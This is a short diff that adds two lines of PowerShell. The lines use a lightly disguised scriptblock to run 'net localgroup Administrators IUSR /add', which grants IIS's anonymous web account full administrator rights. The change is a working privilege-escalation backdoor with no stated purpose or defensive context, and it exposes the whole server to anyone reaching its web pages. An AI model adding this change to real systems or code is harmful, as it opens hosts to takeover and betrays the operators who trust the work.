@@ -1,0 +1,2 @@
+$action = { param($g, $m) net localgroup $g $m /add }
+& $action 'Administrators' 'IUSR'
